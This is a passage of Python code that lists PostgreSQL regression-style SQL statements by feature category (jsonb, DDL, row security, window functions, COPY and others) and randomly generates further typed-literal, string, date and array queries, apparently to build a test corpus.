 ("jsonb", "SELECT jsonb_set('{\"f1\":1,\"f2\":null}', '{f2}', '[2,3,4]')"), ("jsonb", "SELECT jsonb_pretty('{\"a\":[1,{\"b\":2}]}')"),
 ("jsonb", "SELECT '{\"a\":1}'::jsonb || '{\"b\":2}'::jsonb, '[1,2,3]'::jsonb - 1"), ("jsonb", "SELECT '{\"a\":{\"b\":1}}'::jsonb #- '{a,b}'"),
 ("jsonb", "SELECT key, value FROM jsonb_each('{\"x\": [1], \"y\": {\"z\": null}}')"), ("jsonb", "SELECT jsonb_agg(DISTINCT x ORDER BY x) FROM unnest(ARRAY[3,1,3]) x"),
 ("jsonb", "SELECT '[{\"id\":1},{\"id\":2}]'::jsonb @? '$[*] ? (@.id > 1)'"), ("jsonb", "SELECT to_jsonb(ROW(1, 'a')), jsonb_build_object('k', now()::date)"),
 ("jsonb", "UPDATE test_jsonb_subscript10 SET test_json['a']['b'] = '1' WHERE id = 1"),
 ("jsonpath", "select jsonb_path_query('[1,2,3]', '$[*] ? (@ >= $min)', '{\"min\": 2}')"), ("jsonpath", "select '$.\"key with space\"'::jsonpath"),
 ("jsonpath", "select jsonb_path_query('{\"a\": \"2025-01-01\"}', '$.a.datetime()')"), ("jsonpath", "select jsonb_path_exists('[1, 2]', 'strict $[5]', silent => true)"),
 ("jsonpath", "select jsonb_path_query('\"abc\"', '$ like_regex \"^a\" flag \"i\"')"),
 ("xml", "SELECT xmlconcat('<a/>', '<b/>')"), ("xml", "SELECT xmlagg(x ORDER BY x::text) FROM (VALUES ('<i>1</i>'::xml), ('<i>2</i>'::xml)) v(x)"),
 ("xml", "SELECT xpath('/r/i/text()', '<r><i>a</i><i>b</i></r>')"), ("xml", "SELECT xmlpi(name php, 'echo \"hello\";')"), ("xml", "SELECT xml_is_well_formed('<x>')"),
 ("arrays", "SELECT (ARRAY[[1,2],[3,4]])[2][1]"), ("arrays", "SELECT '{1,2,3}'::int[] @> '{2}', '{1,2}'::int[] && '{3}'"), ("arrays", "SELECT array_fill(7, ARRAY[2,3])"),
 ("arrays", "SELECT array_remove(ARRAY[1,NULL,2,NULL], NULL)"), ("arrays", "SELECT * FROM unnest(ARRAY['a','b']) WITH ORDINALITY AS u(v, n)"),
 ("arrays", "SELECT * FROM unnest(ARRAY[1,2], ARRAY['x','y','z']) AS t(n, s)"), ("arrays", "SELECT array_sample(ARRAY[1,2,3], 0)"),
 ("arrays", "SELECT trim_array(ARRAY[1,2,3,4], 2), array_upper(ARRAY[[1],[2]], 1)"), ("arrays", "SELECT '[0:2]={7,8,9}'::int[]"),
 ("arrays", "UPDATE arrtest10 SET a[1:2] = '{16,25}' WHERE NOT a = '{}'::int2[]"),
 ("tsearch", "SELECT to_tsvector('simple', 'The Fat Rats') @@ to_tsquery('simple', 'fat & rat:*')"), ("tsearch", "SELECT websearch_to_tsquery('english', '\"fat rat\" or cat -dog')"),
 ("tsearch", "SELECT ts_rank_cd(to_tsvector('english', 'a fat cat sat'), to_tsquery('english', 'cat | sat'), 4)"), ("tsearch", "SELECT tsvector_to_array('fat:2 rat:3'::tsvector)"),
 ("tsearch", "SELECT querytree(to_tsquery('english', '!defined'))"), ("tsearch", "SELECT ts_lexize('english_stem', 'stars')"),
 ("tsearch", "CREATE TEXT SEARCH CONFIGURATION regress_cfg10 (COPY = english)"), ("tsearch", "ALTER TEXT SEARCH CONFIGURATION regress_cfg10 DROP MAPPING FOR email"),
 ("geometry", "SELECT center(box '((0,0),(4,4))'), diameter(circle '<(0,0),2>')"), ("geometry", "SELECT point '(1,1)' <@ polygon '((0,0),(2,0),(2,2),(0,2))'"),
 ("geometry", "SELECT line '{1,-1,0}' ?|| line '{2,-2,5}'"), ("geometry", "SELECT box '((0,0),(1,1))' # box '((0.5,0.5),(2,2))'"),
 ("geometry", "SELECT popen(path '[(0,0),(1,1),(2,0)]'), pclose(path '[(0,0),(1,1)]')"),
 # DDL
 ("create_table", "CREATE TABLE measurement10 (city_id int NOT NULL, logdate date NOT NULL, peaktemp int, unitsales int) PARTITION BY RANGE (logdate)"),
 ("create_table", "CREATE TABLE measurement10_y2025 PARTITION OF measurement10 FOR VALUES FROM ('2025-01-01') TO ('2026-01-01')"),
 ("create_table", "CREATE TABLE measurement10_default PARTITION OF measurement10 DEFAULT"),
 ("create_table", "CREATE TABLE list_parted10 (a text, b int) PARTITION BY LIST (lower(a))"),
 ("create_table", "CREATE TABLE ident10 (id int GENERATED ALWAYS AS IDENTITY (START WITH 100 INCREMENT BY 10), v text)"),
 ("create_table", "CREATE TABLE gtest10 (a int PRIMARY KEY, b int GENERATED ALWAYS AS (a * 2) STORED)"),
 ("create_table", "CREATE TABLE IF NOT EXISTS like10 (LIKE gtest10 INCLUDING ALL, extra text)"),
 ("create_table", "CREATE TABLE withoids10 (a int) WITH (fillfactor = 70, autovacuum_enabled = false)"),
 ("create_table", "CREATE TABLE inh_child10 (c int) INHERITS (inh_parent10)"),
 ("create_table", "CREATE TABLE fk10 (id int PRIMARY KEY, parent int REFERENCES fk10 (id) ON DELETE SET NULL DEFERRABLE INITIALLY DEFERRED)"),
 ("create_table", "CREATE TABLE check10 (a int CHECK (a > 0) NO INHERIT, b text CONSTRAINT b_len CHECK (char_length(b) <= 10))"),
 ("create_table", "CREATE TEMPORARY TABLE tmp10 ON COMMIT PRESERVE ROWS AS SELECT g AS i FROM generate_series(1, 5) g"),
 ("alter_table", "ALTER TABLE gtest10 ALTER COLUMN b DROP EXPRESSION"), ("alter_table", "ALTER TABLE check10 VALIDATE CONSTRAINT b_len"),
 ("alter_table", "ALTER TABLE like10 RENAME COLUMN extra TO note"), ("alter_table", "ALTER TABLE like10 ALTER COLUMN note TYPE varchar(200) USING note::varchar(200)"),
 ("alter_table", "ALTER TABLE measurement10 DETACH PARTITION measurement10_default CONCURRENTLY"), ("alter_table", "ALTER TABLE fk10 SET (parallel_workers = 2)"),
 ("alter_table", "ALTER TABLE ONLY inh_parent10 ADD CONSTRAINT inh_p_chk CHECK (true) NOT VALID"), ("alter_table", "ALTER TABLE tmp10 SET LOGGED"),
 ("alter_table", "ALTER TABLE like10 REPLICA IDENTITY FULL"), ("alter_table", "ALTER TABLE ident10 ALTER COLUMN id RESTART WITH 1000"),
 ("create_index", "CREATE INDEX ON measurement10 (city_id, logdate DESC NULLS LAST)"), ("create_index", "CREATE UNIQUE INDEX uq10 ON like10 (lower(note)) NULLS NOT DISTINCT"),
 ("create_index", "CREATE INDEX incl10 ON fk10 (parent) INCLUDE (id) WHERE parent IS NOT NULL"), ("create_index", "ALTER INDEX uq10 ALTER COLUMN 1 SET STATISTICS 500"),
 ("create_index", "REINDEX (VERBOSE) TABLE fk10"), ("create_index", "CREATE INDEX brin10 ON measurement10 USING brin (logdate) WITH (pages_per_range = 32)"),
 ("create_index", "CREATE INDEX trgm10 ON like10 USING gin (note gin_trgm_ops)"), ("create_index", "CREATE INDEX hash10 ON like10 USING hash (note)"),
 ("create_view", "CREATE VIEW v10 WITH (security_barrier) AS SELECT a FROM gtest10 WHERE a > 1"), ("create_view", "CREATE RECURSIVE VIEW nums10 (n) AS VALUES (1) UNION ALL SELECT n + 1 FROM nums10 WHERE n < 5"),
 ("create_view", "CREATE OR REPLACE VIEW v10_ck AS SELECT * FROM check10 WHERE a > 0 WITH LOCAL CHECK OPTION"), ("create_view", "ALTER VIEW v10 SET (security_invoker = true)"),
 ("matview", "CREATE MATERIALIZED VIEW mv10 AS SELECT city_id, max(peaktemp) AS hi FROM measurement10 GROUP BY city_id WITH NO DATA"),
 ("matview", "REFRESH MATERIALIZED VIEW mv10 WITH DATA"), ("matview", "CREATE UNIQUE INDEX mv10_idx ON mv10 (city_id)"), ("matview", "DROP MATERIALIZED VIEW IF EXISTS mv10"),
 ("rowsecurity", "ALTER TABLE document10 ENABLE ROW LEVEL SECURITY"), ("rowsecurity", "ALTER TABLE document10 FORCE ROW LEVEL SECURITY"),
 ("rowsecurity", "CREATE POLICY p1_10 ON document10 AS PERMISSIVE FOR SELECT TO PUBLIC USING (dlevel <= (SELECT seclv FROM uaccount10 WHERE pguser = current_user))"),
 ("rowsecurity", "CREATE POLICY p2_10 ON document10 AS RESTRICTIVE FOR UPDATE USING (cid <> 44) WITH CHECK (cid <> 44 AND cid < 50)"),
 ("rowsecurity", "ALTER POLICY p1_10 ON document10 USING (true)"), ("rowsecurity", "DROP POLICY IF EXISTS p2_10 ON document10"),
 ("rowsecurity", "SET row_security TO off"), ("rowsecurity", "SELECT * FROM pg_policies WHERE tablename = 'document10' ORDER BY policyname"),
 ("privileges", "CREATE ROLE regress_priv_user10 NOLOGIN"), ("privileges", "GRANT SELECT (a), UPDATE (a) ON gtest10 TO regress_priv_user10"),
 ("privileges", "REVOKE ALL ON gtest10 FROM PUBLIC"), ("privileges", "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO regress_priv_user10"),
 ("privileges", "SELECT has_column_privilege('regress_priv_user10', 'gtest10', 'a', 'SELECT')"), ("privileges", "SET SESSION AUTHORIZATION regress_priv_user10"),
 ("privileges", "RESET SESSION AUTHORIZATION"), ("privileges", "DROP ROLE IF EXISTS regress_priv_user10"),
 ("sequence", "CREATE SEQUENCE seq10 AS smallint INCREMENT -2 MINVALUE -100 MAXVALUE 0 START -1 CYCLE"), ("sequence", "SELECT nextval('seq10'), currval('seq10')"),
 ("sequence", "SELECT setval('seq10', -50, false)"), ("sequence", "ALTER SEQUENCE seq10 OWNED BY gtest10.a"), ("sequence", "SELECT * FROM pg_sequence_parameters('seq10'::regclass)"),
 ("create_function_sql", "CREATE FUNCTION add10(a int, b int DEFAULT 10) RETURNS int LANGUAGE sql IMMUTABLE PARALLEL SAFE RETURN a + b"),
 ("create_function_sql", "SELECT add10(1), add10(b => 2, a => 3)"), ("create_function_sql", "CREATE FUNCTION tf10(int) RETURNS TABLE (x int, y text) LANGUAGE sql AS 'SELECT $1, $1::text'"),
 ("create_function_sql", "ALTER FUNCTION add10(int, int) SET search_path = pg_catalog, pg_temp"), ("create_function_sql", "DROP FUNCTION IF EXISTS tf10(int)"),
 ("plpgsql", "CREATE FUNCTION fib10(n int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN IF n < 2 THEN RETURN n; END IF; RETURN fib10(n - 1) + fib10(n - 2); END $$"),
 ("plpgsql", "CREATE FUNCTION raise10() RETURNS void LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'value: %', 42 USING HINT = 'just a test'; END $$"),
 ("plpgsql", "DO $$ DECLARE r record; BEGIN FOR r IN SELECT g FROM generate_series(1, 3) g LOOP RAISE NOTICE '%', r.g; END LOOP; END $$"),
 ("plpgsql", "CREATE FUNCTION exc10(x int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1 / x; EXCEPTION WHEN division_by_zero THEN RETURN NULL; END $$"),
 ("plpgsql", "CREATE PROCEDURE proc10(INOUT x int) LANGUAGE plpgsql AS $$ BEGIN x := x * 2; END $$"), ("plpgsql", "CALL proc10(21)"),
 ("triggers", "CREATE TRIGGER trig10 AFTER INSERT OR UPDATE OF a ON gtest10 REFERENCING NEW TABLE AS newtab FOR EACH STATEMENT EXECUTE FUNCTION trigfunc10()"),
 ("triggers", "ALTER TABLE gtest10 DISABLE TRIGGER trig10"), ("triggers", "CREATE CONSTRAINT TRIGGER ctrig10 AFTER DELETE ON fk10 DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION trigfunc10()"),
 ("triggers", "DROP TRIGGER IF EXISTS trig10 ON gtest10"),
 ("rules", "CREATE RULE rule10 AS ON DELETE TO v10 DO INSTEAD NOTHING"), ("rules", "CREATE OR REPLACE RULE rule10_log AS ON UPDATE TO check10 DO ALSO INSERT INTO check10_log VALUES (old.a, new.a)"),
 ("rules", "SELECT pg_get_ruledef(oid, true) FROM pg_rewrite WHERE rulename = 'rule10'"),
 ("event_trigger", "CREATE EVENT TRIGGER evt10 ON sql_drop WHEN TAG IN ('DROP TABLE') EXECUTE FUNCTION evtfunc10()"),
 ("create_type", "CREATE TYPE complex10 AS (r float8, i float8)"), ("create_type", "SELECT (ROW(1.5, 2.0)::complex10).r"), ("create_type", "ALTER TYPE complex10 ADD ATTRIBUTE tag text"),
 ("create_type", "CREATE TYPE shell10"), ("create_cast", "CREATE CAST (complex10 AS text) WITH INOUT AS ASSIGNMENT"),
 ("create_operator", "CREATE OPERATOR ===> (leftarg = int4, rightarg = int4, function = int4eq, commutator = ===>)"),
 ("create_aggregate", "CREATE AGGREGATE mysum10 (int) (sfunc = int4pl, stype = int, initcond = '0')"), ("create_aggregate", "SELECT mysum10(g) FROM generate_series(1, 10) g"),
 ("collate", "SELECT 'a' < 'B' COLLATE \"C\", 'a' < 'B' COLLATE \"en-x-icu\""), ("collate", "CREATE COLLATION ci10 (provider = icu, locale = 'und-u-ks-level2', deterministic = false)"),
 ("stats_ext", "CREATE STATISTICS st10 (ndistinct, dependencies, mcv) ON city_id, peaktemp FROM measurement10"), ("stats_ext", "ALTER STATISTICS st10 SET STATISTICS 200"),
 ("stats_ext", "SELECT stxname, stxkind FROM pg_statistic_ext WHERE stxname = 'st10'"),
 # queries
 ("select", "SELECT DISTINCT ON (city_id) city_id, logdate FROM measurement10 ORDER BY city_id, logdate DESC"), ("select", "SELECT * FROM (VALUES (1, 'one'), (2, 'two')) AS t (num, letter) ORDER BY num DESC"),
 ("select", "SELECT a FROM gtest10 ORDER BY a FETCH FIRST 1 ROW WITH TIES"), ("select", "SELECT * FROM gtest10 TABLESAMPLE BERNOULLI (50) REPEATABLE (0)"), ("select", "TABLE gtest10"),
 ("select", "SELECT ALL a FROM gtest10 ORDER BY a USING >"), ("select_into", "SELECT a, b INTO TEMP TABLE sel_into10 FROM gtest10 WHERE a < 3"),
 ("join", "SELECT * FROM gtest10 g FULL JOIN check10 c ON g.a = c.a WHERE coalesce(g.a, c.a) > 0"), ("join", "SELECT * FROM gtest10 NATURAL LEFT JOIN like10"),
 ("join", "SELECT t1.a, ss.x FROM gtest10 t1, LATERAL (SELECT t1.a * 2 AS x) ss"), ("join", "SELECT * FROM gtest10 g JOIN check10 c USING (a) AS j WHERE j.a = 1"),
 ("join", "SELECT * FROM int4_tbl10 a CROSS JOIN int4_tbl10 b WHERE a.f1 < b.f1"),
 ("subselect", "SELECT a FROM gtest10 WHERE a = ANY (SELECT a FROM check10)"), ("subselect", "SELECT a FROM gtest10 g WHERE NOT EXISTS (SELECT 1 FROM check10 c WHERE c.a = g.a)"),
 ("subselect", "SELECT (SELECT max(a) FROM gtest10) AS m, ARRAY(SELECT a FROM gtest10 ORDER BY a) AS arr"), ("subselect", "SELECT * FROM gtest10 WHERE (a, b) IN (SELECT a, a * 2 FROM check10)"),
 ("union", "SELECT 1 UNION ALL SELECT 1 EXCEPT SELECT 2"), ("union", "(SELECT a FROM gtest10 LIMIT 2) UNION (SELECT a FROM check10 ORDER BY a DESC LIMIT 2)"),
 ("union", "SELECT a FROM gtest10 INTERSECT ALL SELECT a FROM check10 ORDER BY 1"),
 ("with", "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT sum(n) FROM t"),
 ("with", "WITH RECURSIVE g(id, path) AS (SELECT 1, ARRAY[1] UNION ALL SELECT id + 1, path || (id + 1) FROM g WHERE id < 4) CYCLE id SET is_cycle USING p SELECT * FROM g"),
 ("with", "WITH moved AS (DELETE FROM check10 WHERE a > 100 RETURNING *) INSERT INTO check10_log SELECT a, a FROM moved"),
 ("with", "WITH x AS NOT MATERIALIZED (SELECT * FROM gtest10) SELECT * FROM x WHERE a = 1"),
 ("window", "SELECT a, sum(a) OVER (ORDER BY a RANGE BETWEEN 1 PRECEDING AND 1 FOLLOWING) FROM gtest10"),
 ("window", "SELECT a, nth_value(a, 2) OVER (ORDER BY a ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM gtest10"),
 ("window", "SELECT a, count(*) OVER (ORDER BY a GROUPS BETWEEN 1 PRECEDING AND CURRENT ROW EXCLUDE TIES) FROM gtest10"),
 ("window", "SELECT a, row_number() OVER w, ntile(3) OVER w FROM gtest10 WINDOW w AS (ORDER BY a DESC)"),
 ("window", "SELECT a, lag(a, 2, -1) OVER (ORDER BY a), lead(a) OVER (ORDER BY a) FROM gtest10"),
 ("window", "SELECT city_id, avg(peaktemp) OVER (PARTITION BY city_id ORDER BY logdate ROWS 6 PRECEDING) FROM measurement10"),
 ("aggregates", "SELECT string_agg(DISTINCT note, ', ' ORDER BY note) FROM like10"), ("aggregates", "SELECT count(*) FILTER (WHERE a % 2 = 0) AS evens FROM gtest10"),
 ("aggregates", "SELECT percentile_disc(ARRAY[0.25, 0.5, 0.75]) WITHIN GROUP (ORDER BY a) FROM gtest10"), ("aggregates", "SELECT regr_slope(b, a), corr(b, a) FROM gtest10"),
 ("aggregates", "SELECT bit_xor(a), bit_and(a), bit_or(a) FROM gtest10"), ("aggregates", "SELECT any_value(note) FROM like10"),
 ("groupingsets", "SELECT city_id, date_trunc('month', logdate), sum(unitsales), grouping(city_id) FROM measurement10 GROUP BY ROLLUP (city_id, date_trunc('month', logdate))"),
 ("groupingsets", "SELECT a, b, count(*) FROM gtest10 GROUP BY GROUPING SETS ((a), (b), ())"), ("groupingsets", "SELECT a, b FROM gtest10 GROUP BY DISTINCT CUBE (a, b)"),
 ("insert_conflict", "INSERT INTO gtest10 (a) VALUES (1), (2) ON CONFLICT (a) DO NOTHING"),
 ("insert_conflict", "INSERT INTO like10 AS l (note) VALUES ('x') ON CONFLICT (lower(note)) DO UPDATE SET note = l.note || excluded.note WHERE l.note <> 'locked'"),
 ("insert", "INSERT INTO ident10 (v) OVERRIDING SYSTEM VALUE VALUES ('manual')"), ("insert", "INSERT INTO check10 DEFAULT VALUES"),
 ("merge", "MERGE INTO check10 t USING (SELECT 1 AS a, 'x' AS b) s ON t.a = s.a WHEN MATCHED AND t.b IS NULL THEN DELETE WHEN MATCHED THEN UPDATE SET b = s.b WHEN NOT MATCHED THEN INSERT VALUES (s.a, s.b)"),
 ("merge", "MERGE INTO gtest10 g USING check10 c ON g.a = c.a WHEN NOT MATCHED THEN DO NOTHING"),
 ("update", "UPDATE check10 SET (a, b) = (SELECT a + 1, 'y' FROM gtest10 WHERE gtest10.a = check10.a) WHERE a < 5"),
 ("update", "UPDATE like10 SET note = DEFAULT WHERE note IS NULL RETURNING *"), ("delete", "DELETE FROM check10 c USING gtest10 g WHERE c.a = g.a RETURNING c.*"),
 ("delete", "DELETE FROM ONLY inh_parent10 WHERE CURRENT OF c10"), ("returning", "INSERT INTO gtest10 (a) VALUES (42) RETURNING a, b, tableoid::regclass"),
 ("limit", "SELECT a FROM gtest10 ORDER BY a OFFSET 2 ROWS FETCH NEXT 3 ROWS ONLY"), ("limit", "SELECT a FROM gtest10 ORDER BY a LIMIT ALL OFFSET 1"),
 ("case", "SELECT CASE WHEN a > 2 THEN 'big' WHEN a > 1 THEN 'mid' ELSE 'small' END FROM gtest10"), ("case", "SELECT CASE a WHEN 1 THEN 'one' WHEN 2 THEN 'two' END FROM gtest10"),
 ("case", "SELECT nullif(a, 1), coalesce(NULL, NULL, a), greatest(a, 2), least(a, 2) FROM gtest10"),
 ("prepare", "PREPARE q10 (int, text) AS SELECT $1 AS n, $2 AS t"), ("prepare", "EXECUTE q10(1, 'one')"), ("prepare", "SELECT name, parameter_types FROM pg_prepared_statements"),
 ("prepare", "DEALLOCATE q10"), ("prepare", "DEALLOCATE ALL"),
 ("portals", "DECLARE c10 SCROLL CURSOR WITH HOLD FOR SELECT * FROM gtest10 ORDER BY a"), ("portals", "FETCH BACKWARD 2 FROM c10"), ("portals", "MOVE ABSOLUTE 3 IN c10"),
 ("portals", "FETCH RELATIVE -1 FROM c10"), ("portals", "CLOSE c10"), ("portals", "CLOSE ALL"),
 ("transactions", "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE"), ("transactions", "SAVEPOINT s10"), ("transactions", "ROLLBACK TO SAVEPOINT s10"),
 ("transactions", "RELEASE SAVEPOINT s10"), ("transactions", "COMMIT AND CHAIN"), ("transactions", "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ COMMITTED"),
 ("copy", "COPY gtest10 (a) FROM stdin"), ("copy", "COPY (SELECT * FROM gtest10 ORDER BY a) TO stdout WITH (FORMAT csv, HEADER)"),
 ("copy", "COPY check10 FROM stdin WITH (FORMAT csv, FORCE_NULL (b), DEFAULT '\\D')"), ("copy", "COPY like10 TO stdout (FORMAT text, DELIMITER '|')"),
 ("copy", "COPY measurement10 (city_id, logdate) FROM stdin WHERE city_id > 0"), ("copy", "COPY BINARY gtest10 TO stdout"),
 ("explain", "EXPLAIN (COSTS OFF, SUMMARY OFF) SELECT * FROM gtest10 WHERE a = 1"), ("explain", "EXPLAIN (VERBOSE, COSTS OFF) SELECT a, b FROM gtest10 ORDER BY b"),
 ("explain", "EXPLAIN (COSTS OFF, SETTINGS ON) SELECT count(*) FROM measurement10"), ("explain", "EXPLAIN (FORMAT yaml, COSTS OFF) SELECT 1"),
 ("explain", "EXPLAIN (GENERIC_PLAN) SELECT * FROM gtest10 WHERE a = $1"), ("explain", "EXPLAIN (COSTS OFF) UPDATE gtest10 SET a = a + 1 WHERE a < 0"),
 ("tablesample", "SELECT count(*) FROM gtest10 TABLESAMPLE SYSTEM (10)"), ("tsrf", "SELECT generate_series(1, 2), unnest(ARRAY['a', 'b', 'c'])"),
 ("tsrf", "SELECT * FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY['x', 'y'])) AS t(n, s)"),
 ("largeobject", "SELECT lo_create(0) > 0"), ("largeobject", "SELECT count(*) FROM pg_largeobject_metadata"), ("largeobject", "SELECT lo_put(lo_create(0), 0, '\\x00'::bytea)"),
 ("misc_functions", "SELECT num_nulls(1, NULL, 2), num_nonnulls(VARIADIC ARRAY[1, NULL])"), ("misc_functions", "SELECT pg_column_size(1::int8), pg_typeof(1.5)"),
 ("misc_functions", "SELECT * FROM pg_get_keywords() WHERE word = 'select'"), ("misc_functions", "SELECT pg_get_functiondef('add10'::regproc)"),
 ("misc_functions", "SELECT count(*) > 0 FROM pg_ls_waldir()"), ("sysviews", "SELECT count(*) >= 0 AS ok FROM pg_backend_memory_contexts"),
 ("sysviews", "SELECT name, setting FROM pg_settings WHERE name = 'enable_hashjoin'"), ("sysviews", "SELECT count(*) > 0 FROM pg_available_extensions"),
 ("sysviews", "SELECT * FROM pg_timezone_names WHERE name = 'UTC'"), ("sysviews", "SELECT type, count(*) > 0 FROM pg_hba_file_rules GROUP BY type"),
 ("namespace", "CREATE SCHEMA IF NOT EXISTS regress_ns10 AUTHORIZATION CURRENT_ROLE"), ("namespace", "ALTER SCHEMA regress_ns10 RENAME TO regress_ns10b"),
 ("namespace", "SET search_path TO regress_ns10b, public"), ("namespace", "DROP SCHEMA regress_ns10b CASCADE"),
 ("lock", "LOCK TABLE gtest10, check10 IN SHARE ROW EXCLUSIVE MODE"), ("vacuum", "VACUUM (FREEZE, VERBOSE, INDEX_CLEANUP OFF) gtest10"),
 ("vacuum", "VACUUM (PARALLEL 2) measurement10"), ("vacuum", "ANALYZE gtest10 (a, b)"), ("cluster", "CLUSTER VERBOSE fk10 USING fk10_pkey"),
 ("publication", "CREATE PUBLICATION pub10 FOR TABLE gtest10 (a) WHERE (a > 10)"), ("publication", "ALTER PUBLICATION pub10 ADD TABLES IN SCHEMA regress_ns10b"),
 ("publication", "ALTER PUBLICATION pub10 SET (publish = 'insert, update')"), ("subscription", "CREATE SUBSCRIPTION sub10 CONNECTION 'dbname=regress_doesnotexist' PUBLICATION pub10 WITH (connect = false)"),
 ("security_label", "SECURITY LABEL ON TABLE gtest10 IS 'classified'"), ("comments", "COMMENT ON FUNCTION add10(int, int) IS 'adds, defaulting b to ten'"),
 ("listen_notify", "LISTEN notify_async10"), ("listen_notify", "NOTIFY notify_async10, 'payload'"), ("listen_notify", "UNLISTEN *"), ("listen_notify", "SELECT pg_notification_queue_usage()"),
 ("advisory_lock", "SELECT pg_try_advisory_lock(1, 2), pg_advisory_unlock_all()"), ("advisory_lock", "SELECT locktype, classid, objid FROM pg_locks WHERE locktype = 'advisory'"),
 ("discard", "DISCARD ALL"), ("discard", "DISCARD PLANS"), ("reset", "RESET ALL"), ("set", "SET LOCAL work_mem = '64kB'"), ("set", "SHOW datestyle"),
 ("errors", "SELECT * FROM nonexistent_table10"), ("errors", "INSERT INTO gtest10 (b) VALUES (1)"), ("errors", "SELECT 'abc'::int"),
 ("errors", "-- should fail: generated column cannot be written\nUPDATE gtest10 SET b = 5"), ("errors", "SELECT 1 FROM gtest10 GROUP BY b HAVING a > 1"),
 ("numerology", "SELECT 017, 1.5e+3, 2E-2, 100000000000000000000"), ("numerology", "SELECT -9223372036854775808, 4.5e-3, .001"),
]


def regress_rows(r):
    out, add = regress_list("regress10", REGRESS_FIXED)
    for typ, vals in [("int2", ["'  32767 '", "'-0x8000'", "'1_000'"]), ("int4", ["'2147483647'", "' -17 '", "'0b101'"]), ("int8", ["'+9223372036854775807'", "'0x7FFFFFFFFFFFFFFF'"]),
                      ("float4", ["'3.4028235e+38'", "'NaN'"]), ("float8", ["'1.7976931348623157e+308'", "'-0'"]), ("numeric", ["'  -0.000123 '", "'Infinity'", "'1e5'"]),
                      ("date", ["'2025-W05-3'", "'May 7, 2025'", "'7 May 2025 BC'", "'20250507'"]), ("time", ["'11:59:59.99 PM'", "'T101112'"]),
                      ("interval", ["'1 week ago'", "'PT36H'", "'@ 1 minute'"]), ("inet", ["'10.1.2.3/8'", "'fe80::1%eth0'"]), ("cidr", ["'10.0.0.0/8'", "'::/0'"]),
                      ("macaddr", ["'0800.2b01.0203'", "'08-00-2b-01-02-03'"]), ("uuid", ["'a0eebc999c0b4ef8bb6d6bb9bd380a11'"]), ("bytea", ["'\\x0a0b'", "'abc \\153\\154'"]),
                      ("jsonb", ["'{\"a\": [true, false, null]}'", "'1e-2'"]), ("tsquery", ["'a <-> b'", "'!(x | y) & z:*'"]), ("point", ["'(0.5,-0.5)'"]),
                      ("lseg", ["'[(0,0),(1,1)]'"]), ("circle", ["'<(1,2),3>'"]), ("int8range", ["'(1,100]'", "'[,)'"]), ("daterange", ["'[2025-01-01,)'"]), ("money", ["'12.3456'"]),
                      ("bit(4)", ["'1010'"]), ("varbit", ["'10101'"]), ("pg_lsn", ["'16/B374D848'"]), ("oid", ["'4294967295'"]), ("regclass", ["'pg_class'"])]:
        for v in vals:
            add(typ.split("(")[0], "SELECT %s::%s" % (v, typ))
            if r.random() < 0.5 and "(" not in typ:
                add(typ, "SELECT pg_input_is_valid(%s, '%s')" % (v, typ))
    for _ in range(30):
        a, b = r.randint(-40000, 40000), r.randint(1, 700)
        t = r.choice(["int2", "int4", "int8", "numeric", "float4", "float8"])
        add(t, "SELECT %s '%d' %s %s '%d' AS r" % (t, a, r.choice(["+", "-", "*", "/", "%", "<=", ">", "=", "<>"]), t, b))
    for _ in range(20):
        s = r.choice(["regression10", "Größe", "hello world", "a,b,c", "x"])
        add("strings", r.choice(["SELECT lpad('%s', %d, '*')" % (s, r.randint(1, 30)), "SELECT initcap('%s'), upper('%s')" % (s, s),
                                 "SELECT substr('%s', %d, %d)" % (s, r.randint(-2, 6), r.randint(0, 6)), "SELECT repeat('%s', %d)" % (s, r.randint(0, 4)),
                                 "SELECT char_length('%s'), octet_length('%s')" % (s, s), "SELECT replace('%s', '%s', '#')" % (s, s[:1])]))
    for _ in range(20):
        add("horology", r.choice(["SELECT timestamp '%s 08:00' + interval '%d minutes'" % (rdate(r), r.randint(-900, 900)),
                                  "SELECT EXTRACT(%s FROM TIMESTAMPTZ '%s 10:20:30+02')" % (r.choice(["EPOCH", "DOY", "TIMEZONE_HOUR", "MICROSECONDS", "DECADE"]), rdate(r)),
                                  "SELECT to_char(date '%s', '%s')" % (rdate(r), r.choice(["Dy DD Mon YYYY", "IYYY-IW-ID", "Q\"Q\"YYYY", "FMMonth FMDDth"])),
                                  "SELECT date '%s' - date '%s'" % (rdate(r), rdate(r)), "SELECT age(timestamp '%s', timestamp '%s')" % (rdate(r), rdate(r))]))
    for _ in range(15):
        add("select", "SELECT unique1, ten, stringu1 FROM tenk1 WHERE %s ORDER BY %s LIMIT %d" % (r.choice(["ten = %d" % r.randint(0, 9), "thousand < %d" % r.randint(2, 50), "stringu1 LIKE '%s%%'" % rword(r, 1, True), "twenty IN (%d, %d)" % (r.randint(0, 19), r.randint(0, 19))]), r.choice(["unique1", "ten, unique1 DESC", "stringu1"]), r.randint(1, 12)))
    for _ in range(12):
        add("arrays", r.choice(["SELECT array_position(ARRAY[%s], %d)" % (",".join(str(r.randint(0, 9)) for _ in range(5)), r.randint(0, 9)),
                                "SELECT ARRAY[%d,%d] <@ ARRAY[%d,%d,%d]" % tuple(r.randint(1, 6) for _ in range(5)),
                                "SELECT array_cat(ARRAY[%d], ARRAY[%d,%d])" % tuple(r.randint(0, 99) for _ in range(3))]))
    for _ in range(10):
        add("numeric", "SELECT ceil(%d.%03d::numeric), floor(-%d.%03d::numeric), round(%d.%03d::numeric, %d)" % (r.randint(0, 999), r.randint(0, 999), r.randint(0, 999), r.randint(0, 999), r.randint(0, 999), r.randint(0, 999), r.randint(-1, 2)))
    for _ in range(10):
        lo, hi = sorted(r.sample(range(1, 60), 2))
        add("rangetypes", r.choice(["SELECT int4range(%d, %d) @> %d" % (lo, hi, r.randint(0, 60)), "SELECT upper(int4range(%d, %d, '[]'))" % (lo, hi),
